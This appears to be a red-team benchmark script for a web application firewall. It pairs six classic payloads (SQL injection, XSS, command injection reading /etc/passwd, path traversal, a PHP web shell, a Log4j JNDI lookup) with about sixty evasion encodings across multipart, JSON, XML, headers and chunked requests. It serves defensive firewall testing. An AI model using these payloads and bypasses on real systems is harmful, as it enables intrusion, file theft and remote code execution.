// Evasion battery: six classic payloads, each hidden in ways an upstream (PHP, Node) still reads.
// Prints, per technique and payload, 403 (blocked) or 200 (passed) and the ids logged.
// Run: node bench/redteam/waf-evasion.mjs [filter]
import { run, req, form } from './waf-lib.mjs';
const P = {
  sqli: "' or 1=1--",
  xss: '<script>alert(1)</script>',
  rce: ';cat /etc/passwd',
  lfi: '../../etc/passwd',
  php: '<?php system($_GET[c]); ?>',
  log4j: '${jndi:ldap://x}',
};
const enc = encodeURIComponent;
const mp = (ct, body) => req({ headers: { 'Content-Type': ct }, body });
const part = (name, v, nl = '\r\n', extra = '') => `Content-Disposition: form-data; name="${name}"${extra}${nl}${nl}${v}${nl}`;
const json = (body, ct = 'application/json') => req({ headers: { 'Content-Type': ct }, body });
const xe = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
const pad = (n) => Array.from({ length: n }, (_, i) => `p${i}=1`).join('&');
const T = {
  'urlencoded (baseline)': (p) => form('a=' + enc(p)),
  'query (baseline)': (p) => req({ method: 'GET', path: '/?a=' + enc(p) }),
  'urlencoded after 10000 args': (p) => form(pad(10000) + '&a=' + enc(p)),
  'query after 10000 args': (p) => req({ method: 'GET', path: '/?' + Array.from({ length: 10000 }, () => 'p').join('&') + '&a=' + enc(p) }),
  'multipart plain': (p) => mp('multipart/form-data; boundary=XX', `--XX\r\n${part('a', p)}--XX--\r\n`),
  'multipart LF only': (p) => mp('multipart/form-data; boundary=XX', `--XX\n${part('a', p, '\n')}--XX--\n`),
  'multipart quoted boundary': (p) => mp('multipart/form-data; boundary="XX"', `--XX\r\n${part('a', p)}--XX--\r\n`),
  'multipart duplicate name': (p) => mp('multipart/form-data; boundary=XX', `--XX\r\n${part('a', 'x')}--XX\r\n${part('a', p)}--XX--\r\n`),
  'multipart filename*': (p) => mp('multipart/form-data; boundary=XX', `--XX\r\nContent-Disposition: form-data; name="f"; filename*=UTF-8''${enc(p)}\r\n\r\nx\r\n--XX--\r\n`),
  'multipart part after close': (p) => mp('multipart/form-data; boundary=XX', `--XX\r\n${part('b', 'x')}--XX--\r\n--XX\r\n${part('a', p)}--XX--\r\n`),
  'multipart preamble': (p) => mp('multipart/form-data; boundary=XX', `${p}\r\n--XX\r\n${part('b', 'x')}--XX--\r\n`),
  'multipart ct "form-data boundary=" (space, no ;)': (p) => mp('multipart/form-data boundary=XX', `--XX\r\n${part('a', p)}--XX--\r\n`),
  'multipart ct "form-data, boundary="': (p) => mp('multipart/form-data, boundary=XX', `--XX\r\n${part('a', p)}--XX--\r\n`),
  'multipart 1001 parts': (p) => mp('multipart/form-data; boundary=XX', `--XX\r\n${part('b', 'x')}`.repeat(1000) + `--XX\r\n${part('a', p)}--XX--\r\n`),
  'multipart part charset utf-16le': (p) => mp('multipart/form-data; boundary=XX', `--XX\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: text/plain; charset=utf-16le\r\n\r\n${Buffer.from(p, 'utf16le').toString('latin1')}\r\n--XX--\r\n`),
  'json plain': (p) => json(JSON.stringify({ a: p })),
  'json \\u escapes': (p) => json('{"a":"' + [...p].map((c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '"}'),
  'json nested arrays': (p) => json(JSON.stringify({ a: [[[[p]]]] })),
  'json duplicate key': (p) => json(`{"a":${JSON.stringify(p)},"a":"x"}`),
  'json depth 513': (p) => json('['.repeat(513) + JSON.stringify(p) + ']'.repeat(513)),
  'json invalid utf-8 byte': (p) => json(`{"a":${JSON.stringify(p)},"b":"\xff"}`),
  'json after 10000 scalars': (p) => json('{"z":[' + '1,'.repeat(10000) + `1],"a":${JSON.stringify(p)}}`),
  'json payload as key': (p) => json(JSON.stringify({ [p]: 1 })),
  'multipart payload as part name': (p) => mp('multipart/form-data; boundary=XX', `--XX\r\nContent-Disposition: form-data; name="${p.replace(/"/g, '%22')}"\r\n\r\nx\r\n--XX--\r\n`),
  'urlencoded payload as name': (p) => form(enc(p) + '=1'),
  'json as text/plain': (p) => json(JSON.stringify({ a: p }), 'text/plain'),
  'json as application/x-json': (p) => json(JSON.stringify({ a: p }), 'application/x-json'),
  'json as form': (p) => json(JSON.stringify({ a: p }), 'application/x-www-form-urlencoded'),
  'json ct "application/json,"': (p) => json(JSON.stringify({ a: p }), 'application/json, text/plain'),
  'json ct with BOM body': (p) => json('\xef\xbb\xbf' + JSON.stringify({ a: p })),
  'xml text': (p) => json(`<a>${xe(p)}</a>`, 'text/xml'),
  'xml attribute': (p) => json(`<a b="${xe(p)}"/>`, 'text/xml'),
  'xml CDATA': (p) => json(`<a><![CDATA[${p}]]></a>`, 'text/xml'),
  'xml internal entity (libxml expands)': (p) => json(`<!DOCTYPE a [<!ENTITY x "${xe(p)}">]><a>&x;</a>`, 'text/xml'),
  'xml payload split by comment': (p) => json(`<a>${xe(p.slice(0, 3))}<!--z-->${xe(p.slice(3))}</a>`, 'text/xml'),
  'xml payload split by CDATA': (p) => json(`<a>${xe(p.slice(0, 3))}<![CDATA[${p.slice(3)}]]></a>`, 'text/xml'),
  'xml payload split by <b/>': (p) => json(`<a>${xe(p.slice(0, 3))}<b/>${xe(p.slice(3))}</a>`, 'text/xml'),
  'xml payload split by <?pi?>': (p) => json(`<a>${xe(p.slice(0, 3))}<?z?>${xe(p.slice(3))}</a>`, 'text/xml'),
  'xml &#x char refs': (p) => json(`<a>${[...p].map((c) => '&#x' + c.charCodeAt(0).toString(16) + ';').join('')}</a>`, 'text/xml'),
  'json charset=utf-16le body': (p) => json(Buffer.from(JSON.stringify({ a: p }), 'utf16le').toString('latin1'), 'application/json; charset=utf-16le'),
  'json as text/plain;charset=utf-16le': (p) => json(Buffer.from(JSON.stringify({ a: p }), 'utf16le').toString('latin1'), 'text/plain; charset=utf-16le'),
  'form as text/plain': (p) => json('a=' + enc(p), 'text/plain'),
  'form no content-type': (p) => req({ headers: { 'Content-Type': null }, body: 'a=' + enc(p) }),
  'form ct "x-www-form-urlencoded, x"': (p) => json('a=' + enc(p), 'application/x-www-form-urlencoded, x'),
  'form charset=utf-8 quoted': (p) => json('a=' + enc(p), 'application/x-www-form-urlencoded; charset="utf-8"'),
  'double encoding': (p) => form('a=' + enc(enc(p))),
  '%u encoding': (p) => form('a=' + [...p].map((c) => '%u00' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('')),
  'overlong utf-8 (2-byte)': (p) => form('a=' + [...p].map((c) => { const x = c.charCodeAt(0); return /[a-z0-9]/i.test(c) ? c : '%' + (0xc0 | (x >> 6)).toString(16) + '%' + (0x80 | (x & 63)).toString(16); }).join('')),
  'cookie': (p) => req({ method: 'GET', headers: { Cookie: 'a=' + p.replace(/;/g, '%3B') } }),
  'cookie url-encoded (PHP decodes)': (p) => req({ method: 'GET', headers: { Cookie: 'a=' + enc(p) } }),
  'header X-Forwarded-For': (p) => req({ method: 'GET', headers: { 'X-Forwarded-For': p } }),
  'header User-Agent': (p) => req({ method: 'GET', headers: { 'User-Agent': p } }),
  'header Referer': (p) => req({ method: 'GET', headers: { Referer: p } }),
  'HPP split a=..&a=..': (p) => form('a=' + enc(p.slice(0, p.length >> 1)) + '&a=' + enc(p.slice(p.length >> 1))),
  'param in name (PHP a[payload])': (p) => form('a[' + enc(p) + ']=1'),
  'chunked': (p) => { const b = 'a=' + enc(p); return `POST / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n` + [...b].map((c) => `1\r\n${c}\r\n`).join('') + '0\r\n\r\n'; },
  'path segment': (p) => req({ method: 'GET', path: '/x/' + enc(p) }),
};
const filter = process.argv[2];
let passed = 0, total = 0;
for (const [t, mk] of Object.entries(T)) {
  if (filter && !t.includes(filter)) continue;
  const row = [];
  for (const [k, p] of Object.entries(P)) {
    const r = run(mk(p));
    total++;
    if (r.status === 200) passed++;
    row.push(`${k}:${r.problem ? 'PROBLEM' : r.status === 200 ? 'PASS' : 'blk'}${r.error ? '!ERR' : ''}`);
  }
  console.log(t.padEnd(48), row.join(' '));
}
console.log(`${passed}/${total} passed through`);
